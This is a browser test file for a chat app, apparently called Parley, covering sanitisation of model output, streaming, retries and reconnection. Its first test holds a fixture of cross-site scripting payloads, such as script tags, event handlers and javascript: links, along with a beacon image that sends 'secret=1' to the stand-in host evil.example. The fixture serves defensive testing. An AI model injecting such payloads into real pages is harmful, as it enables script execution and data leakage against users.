import { afterEach, beforeAll, afterAll, describe, expect, it } from "vitest";
import { has } from "../../support/requirements.ts";
import { chunk, done, sse } from "../../simulators/gateway/corpus-row.ts";
import {
  startScriptedGateway,
  type ScriptedAnswer,
  type ScriptedGateway,
} from "../../simulators/gateway/scripted-gateway.ts";
import { answerAfter, chooseInMenu, field, say, startPageStory, type PageStory } from "./page-story.ts";

const hostile = `
<script>window.pwned = 1</script>
<img src="/nothing" onerror="window.pwned = 2">
<svg onload="window.pwned = 3"></svg>
<iframe src="https://evil.example/"></iframe>
<form action="https://evil.example/"><input name="a"><button>Go</button></form>
<style>body { display: none }</style>
<p style="position:fixed;inset:0" class="drop-overlay" id="app">styled</p>

[click me](javascript:window.pwned=4) [data](data:text/html,<script>window.pwned=5</script>)
[inside](/api/logout) [fine](https://example.org/page)

![beacon](https://evil.example/pixel.png?secret=1)
<img src="https://evil.example/raw.png" alt="raw">

\`\`\`html
<script>window.pwned = 6</script>
\`\`\`
`;

const models = JSON.stringify({
  object: "list",
  data: [{ id: "m", object: "model", created: 1, owned_by: "test" }],
});

describe.skipIf(!has("chromium"))("the page under failures", () => {
  let gateway: ScriptedGateway;
  let story: PageStory;
  let answers: ((text: string) => ScriptedAnswer)[] = [];

  beforeAll(async () => {
    gateway = await startScriptedGateway((request) => {
      if (request.path === "/v1/models")
        return { body: models, headers: { "content-type": "application/json" } };
      const next = answers.shift();
      if (next === undefined) throw new Error("no scripted answer for this request");
      return next(request.body.toString("utf8"));
    });
    story = await startPageStory({ GATEWAY_BASE_URL: gateway.baseUrl, CHAT_MODEL: "m" });
  });
  afterEach(() => {
    answers = [];
  });
  afterAll(async () => {
    await story?.close();
    await gateway?.close();
  });

  it("sanitises hostile Markdown", async () => {
    answers = [() => sse(chunk({ content: hostile }), chunk({}, "stop"), done)];
    const { page, problems } = await story.open();
    await say(page, "Attack me.");
    const answer = page.locator(".from-parley .markdown");
    await answer.getByText("click me").waitFor();
    expect(await page.evaluate("window.pwned")).toBeUndefined();
    const forbidden = "script, style, iframe, form, input, svg, img, [style], [onerror], [onload], [id]";
    expect(await answer.locator(forbidden).count()).toBe(0);
    const links = await answer
      .locator("a[href]")
      .evaluateAll((all) =>
        all.map((link) => ["href", "target", "rel"].map((name) => link.getAttribute(name))),
      );
    const safe = ["_blank", "noopener noreferrer nofollow"];
    expect(links).toEqual([
      ["https://example.org/page", ...safe],
      ["https://evil.example/pixel.png?secret=1", ...safe],
    ]);
    await expect.poll(() => answer.innerText()).toContain("Picture: beacon (evil.example)");
    // Raw HTML is shown as text.
    await expect.poll(() => answer.innerText()).toContain('<img src="/nothing" onerror="window.pwned = 2">');
    await expect
      .poll(() => answer.locator("code").innerText())
      .toContain("<script>window.pwned = 6</script>");
    // No request to another host, and no policy violation.
    expect(problems).toEqual([]);
    await page.context().close();
  });

  it("aborts the gateway request when the conversation is deleted", async () => {
    answers = [() => ({ ...sse(chunk({ content: "It goes on and" })), after: "hang" })];
    const { page, problems } = await story.open();
    const list = page.getByRole("navigation");
    await field(page).fill("Talk on for ever");
    await field(page).press("Enter");
    await page.getByText("It goes on").waitFor();
    await chooseInMenu(page, "Talk on for ever", "Delete");
    await list.getByRole("button", { name: "Delete", exact: true }).click();
    await list.getByRole("link", { name: "Talk on for ever" }).waitFor({ state: "detached" });
    await expect.poll(() => page.locator(".messages").count()).toBe(0);
    answers = [() => sse(chunk({ content: "A new one." }, "stop"), done)];
    expect(await say(page, "And now?")).toContain("A new one.");
    expect(problems).toEqual([]);
    await page.context().close();
  });

  it("shows a streamed answer as it arrives, and stops it", async () => {
    answers = [
      () => ({ ...sse(chunk({ content: "First paragraph.\n\nSecond par" })), after: "hang" }),
      () => sse(chunk({ content: "Again." }, "stop"), done),
    ];
    const { page } = await story.open();
    await field(page).fill("Tell me");
    await field(page).press("Enter");
    await page.getByText("Second par").waitFor();
    expect(await page.locator(".from-parley.is-growing").count()).toBe(1);
    await page.getByRole("button", { name: "Stop the answer" }).click();
    expect(await answerAfter(page, 0)).toContain("Stopped.");
    expect(await answerAfter(page, 0)).toContain("Second par");
    await page.getByRole("button", { name: "Stop the answer" }).waitFor({ state: "detached" });
    expect(await say(page, "Once more")).toContain("Again.");
    await page.context().close();
  });

  it("says why an answer failed, and replaces it on Retry, also after a reload", async () => {
    const refusal: ScriptedAnswer = {
      status: 401,
      body: JSON.stringify({ error: { message: "bad key", type: "x", param: null, code: null } }),
    };
    answers = [() => refusal, () => refusal, () => sse(chunk({ content: "Now it works." }, "stop"), done)];
    const { page } = await story.open();
    expect(await say(page, "Are you there?")).toContain("does not accept Parley's key");
    await page.getByRole("button", { name: "Retry" }).click();
    await expect.poll(() => answers.length).toBe(1);
    await page.getByRole("button", { name: "Retry" }).waitFor();
    await page.reload();
    await page.getByRole("button", { name: "Retry" }).click();
    await page.locator(".markdown", { hasText: "Now it works." }).waitFor();
    expect(await page.locator(".message").count()).toBe(2);
    expect(await page.getByRole("button", { name: "Retry" }).count()).toBe(0);
    await page.reload();
    await page.locator(".markdown", { hasText: "Now it works." }).waitFor();
    expect(await page.locator(".message").count()).toBe(2);
    await page.context().close();
  });

  it("answers messages sent during a turn in one turn, and shows each once", async () => {
    answers = [
      () => ({ ...sse(chunk({ content: "Thinking" })), after: "hang" }),
      () => sse(chunk({ content: "Both heard." }, "stop"), done),
    ];
    const { page } = await story.open();
    for (const text of ["One", "Two", "Three"]) {
      await field(page).fill(text);
      await field(page).press("Enter");
      await page.locator(".bubble", { hasText: text }).waitFor();
      if (text === "One") await page.getByText("Thinking").waitFor();
    }
    await page.getByRole("button", { name: "Stop the answer" }).click();
    await page.locator(".markdown", { hasText: "Both heard." }).waitFor();
    await answerAfter(page, 1);
    const texts = await page.locator(".bubble, .markdown").allInnerTexts();
    expect(texts).toEqual(["One", "Thinking", "Two", "Three", "Both heard."]);
    await page.reload();
    await page.locator(".markdown", { hasText: "Both heard." }).waitFor();
    await expect.poll(() => page.locator(".bubble, .markdown").allInnerTexts()).toEqual(texts);
    await page.context().close();
  });

  it("sends what was typed and entered while the message before it was on its way", async () => {
    answers = [
      () => sse(chunk({ content: "The first." }, "stop"), done),
      () => sse(chunk({ content: "The second." }, "stop"), done),
    ];
    const { page } = await story.open();
    const held: (() => void)[] = [];
    await page.route("**/messages", async (route) => {
      if (held.length === 0) await new Promise<void>((resolve) => held.push(resolve));
      await route.fallback();
    });
    await field(page).fill("A first message");
    await field(page).press("Enter");
    await expect.poll(() => held.length).toBe(1);
    await field(page).fill("A second message");
    await field(page).press("Enter");
    held[0]?.();
    await page.locator(".bubble", { hasText: "A second message" }).waitFor();
    await expect
      .poll(() => page.locator(".bubble").allInnerTexts())
      .toEqual(["A first message", "A second message"]);
    await expect.poll(() => field(page).inputValue()).toBe("");
    await page.context().close();
  });

  it("answers once what is sent again because the response to the first attempt was lost", async () => {
    answers = [
      () => sse(chunk({ content: "Heard once." }, "stop"), done),
      () => sse(chunk({ content: "Something else." }, "stop"), done),
      () => sse(chunk({ content: "Asked again." }, "stop"), done),
    ];
    const { page } = await story.open();
    let attempts = 0;
    await page.route("**/messages", async (route) => {
      attempts += 1;
      if (attempts > 1) return await route.fallback();
      await route.fetch();
      await route.abort();
    });
    await field(page).fill("Do you hear me?");
    await field(page).press("Enter");
    await page.getByRole("alert").getByText("Parley cannot be reached.").waitFor();
    // A reload keeps the draft, and what is known of its first attempt.
    await page.reload();
    await expect.poll(() => field(page).inputValue()).toBe("Do you hear me?");
    await field(page).press("Enter");
    await expect.poll(() => field(page).inputValue()).toBe("");
    expect(attempts).toBe(2);
    expect(await answerAfter(page, 0)).toContain("Heard once.");
    expect(await say(page, "Go on")).toContain("Something else.");
    // The same words, typed anew, are another message.
    expect(await say(page, "Do you hear me?")).toContain("Asked again.");
    expect(await page.locator(".bubble").allInnerTexts()).toEqual([
      "Do you hear me?",
      "Go on",
      "Do you hear me?",
    ]);
    await page.context().close();
  });

  it("says when Parley is unreachable, keeps what was typed, and reconnects", async () => {
    answers = [
      () => sse(chunk({ content: "Hello." }, "stop"), done),
      () => sse(chunk({ content: "Back." }, "stop"), done),
    ];
    const { page } = await story.open();
    await say(page, "Hello");
    const ended = story.parley().ended;
    story.parley().process.kill("SIGKILL");
    await ended;
    await page.getByText("Parley cannot be reached. Trying again…").waitFor();
    await field(page).fill("Still there?");
    await field(page).press("Enter");
    await page.getByRole("alert").getByText("Parley cannot be reached.").waitFor();
    expect(await field(page).inputValue()).toBe("Still there?");
    await story.restart();
    await page.getByText("Parley cannot be reached. Trying again…").waitFor({ state: "detached" });
    await field(page).press("Enter");
    expect(await answerAfter(page, 1)).toContain("Back.");
    expect(await page.locator(".message").count()).toBe(4);
    await page.context().close();
  });
});
